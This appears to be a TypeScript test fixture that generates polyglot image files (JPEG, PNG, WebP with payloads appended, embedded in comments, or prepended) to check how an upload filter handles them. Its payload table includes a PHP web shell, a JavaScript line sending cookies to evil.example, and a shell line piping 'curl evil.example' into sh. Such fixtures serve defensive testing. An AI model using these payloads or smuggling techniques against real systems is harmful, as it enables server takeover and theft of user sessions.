import { canary, type HostileFile } from './file.ts';
import { pngChunk, pngWith } from './png.ts';

/** An empty archive with a comment: what unpackers look for is at the end of a file. */
const zip = Buffer.concat([
  Buffer.from('PK\x05\x06', 'latin1'),
  Buffer.alloc(16),
  Buffer.from([canary.length, 0]),
  Buffer.from(canary),
]);

const payloads: Record<string, Buffer> = {
  PHP: Buffer.from(`<?php /* ${canary} */ system($_GET['c']); __halt_compiler();`),
  HTML: Buffer.from(`<html><script>/* ${canary} */ alert(document.domain)</script></html>`),
  JavaScript: Buffer.from(`/* ${canary} */=1;fetch('//evil.example/'+document.cookie)//`),
  ZIP: zip,
  'JAR (GIFAR)': Buffer.concat([Buffer.from('META-INF/MANIFEST.MF'), zip]),
  PHAR: Buffer.from(`<?php __HALT_COMPILER(); ?> ${canary} GBMB`),
  shell: Buffer.from(`#!/bin/sh\n# ${canary}\ncurl evil.example | sh\n`),
  ELF: Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.from(canary)]),
  PDF: Buffer.from(`%PDF-1.7\n% ${canary}\n1 0 obj<</OpenAction<</S/JavaScript>>>>endobj`),
  SVG: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="/*${canary}*/"/>`),
};

/** Pictures that are something else as well: at the end, in a comment, or in front. */
export function polyglots({ jpeg, png, webp }: Record<string, Buffer>): HostileFile[] {
  const bases = { JPEG: jpeg, PNG: png, WebP: webp } as Record<string, Buffer>;
  return Object.entries(payloads).flatMap(([name, payload]): HostileFile[] => [
    ...Object.entries(bases).map(([type, base]) => ({
      about: `${type} with ${name} after its end`,
      bytes: Buffer.concat([base, payload]),
    })),
    {
      about: `JPEG with ${name} in a comment`,
      bytes: jpegWith(bases.JPEG as Buffer, 0xfe, payload),
      isTaken: true,
    },
    {
      about: `PNG with ${name} in a text`,
      bytes: pngWith(bases.PNG as Buffer, pngChunk('tEXt', textOf(payload))),
      isTaken: true,
    },
    {
      about: `${name} with a JPEG after it`,
      bytes: Buffer.concat([payload, bases.JPEG as Buffer]),
      isTaken: false,
    },
  ]);
}

const textOf = (payload: Buffer): Buffer => Buffer.concat([Buffer.from('Comment\0'), payload]);

/** The same picture with one segment more, right at its start. */
export function jpegWith(picture: Buffer, marker: number, data: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([picture.subarray(0, 2), head, data, picture.subarray(2)]);
}
